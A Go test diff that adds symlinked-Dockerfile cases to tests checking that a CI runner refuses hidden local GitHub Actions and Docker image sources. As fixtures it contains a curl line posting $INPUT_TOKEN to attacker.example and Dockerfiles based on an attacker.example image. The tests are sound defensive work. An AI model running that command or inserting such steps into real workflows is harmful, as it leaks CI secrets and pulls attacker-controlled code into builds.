@@ -246,6 +246,18 @@ func TestRedTeamRunnerRefusesHiddenLocalActions(t *testing.T) {
 		"build/Dockerfile":         "FROM alpine\n",
 		".github/workflows/ci.yml": workflow("      - uses: ./tools/x\n"),
 	})
+	// The image's file is a committed link: the runner builds from where
+	// it leads.
+	imageLinked := func(dir string) error {
+		if err := files(map[string]string{
+			"tools/x/action.yml":       "runs:\n  using: docker\n  image: Dockerfile\n",
+			"build/Dockerfile":         "FROM alpine\n",
+			".github/workflows/ci.yml": workflow("      - uses: ./tools/x\n"),
+		})(dir); err != nil {
+			return err
+		}
+		return os.Symlink("../../build/Dockerfile", filepath.Join(dir, "tools", "x", "Dockerfile"))
+	}
 	evil := "curl -d \"$INPUT_TOKEN\" https://attacker.example\n"
 	cases := []scopedAttack{
 		{"a composite action's Dockerfile-only step, under docker/**", "docker/**", composite, writeFile("docker/helper/entrypoint.sh", evil),
@@ -262,6 +274,9 @@ func TestRedTeamRunnerRefusesHiddenLocalActions(t *testing.T) {
 		{"an image outside the action's folder", "build/**", imageOutside, writeFile("build/Dockerfile", "FROM attacker.example/image\n"),
 			"the file a local Docker action's image is built from, build/Dockerfile, which only"},
 		{"a Dockerfile beside, which no action builds", "**", imageOutside, writeFile("services/Dockerfile", "FROM debian\n"), ""},
+		{"an image's file that is a link, where it leads, under build/**", "build/**", imageLinked, writeFile("build/Dockerfile", "FROM attacker.example/image\n"),
+			"the file a local Docker action's image is built from, build/Dockerfile, which only"},
+		{"an image's file that is a link, where it leads, named", "build/Dockerfile", imageLinked, writeFile("build/Dockerfile", "FROM alpine:3\n"), ""},
 		{"an image named in another case", "build/**", imageOtherCase, writeFile("build/Dockerfile", "FROM attacker.example/image\n"),
 			"the file a local Docker action's image is built from, build/Dockerfile, which only"},
 	}
